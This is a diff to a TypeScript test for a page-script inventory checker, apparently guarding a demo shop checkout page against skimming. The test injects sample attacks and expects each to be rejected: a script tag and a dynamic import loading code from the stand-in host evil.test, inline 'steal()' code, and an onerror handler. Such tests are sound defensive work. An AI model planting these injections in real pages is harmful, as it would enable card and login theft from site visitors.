@@ -35,7 +35,7 @@ async function changed(change: (folder: string) => void): Promise<unknown> {
 }
 
 test("an added script fails the inventory", async () => {
-  const page = (folder: string) => join(folder, "demo/checkout/index.html");
+  const page = (folder: string) => join(folder, "demo/shop/checkout/index.html");
   const intoPage = (html: string) => (folder: string) =>
     writeFileSync(page(folder), readFileSync(page(folder), "utf8").replace("</head>", `${html}</head>`));
   const nonce = 'nonce="{{nonce}}"';
@@ -43,11 +43,13 @@ test("an added script fails the inventory", async () => {
     changed(intoPage(`<script ${nonce} src="https://evil.test/x.js"></script>`)),
     /evil.test.x.js has no purpose/,
   );
-  await assert.rejects(changed(intoPage('<script src="/shop.js"></script>')), /has no nonce/);
+  await assert.rejects(changed(intoPage('<script src="/every-page.js"></script>')), /has no nonce/);
   await assert.rejects(changed(intoPage(`<script ${nonce}>steal()</script>`)), /inline script/);
   await assert.rejects(changed(intoPage('<img src="x" onerror="steal()">')), /inline event handler/);
   await assert.rejects(
-    changed((folder) => appendFileSync(join(folder, "demo/shop.js"), '\nimport("https://evil.test/x.js");')),
+    changed((folder) =>
+      appendFileSync(join(folder, "demo/every-page.js"), '\nimport("https://evil.test/x.js");'),
+    ),
     /evil.test.x.js has no purpose/,
   );
 });
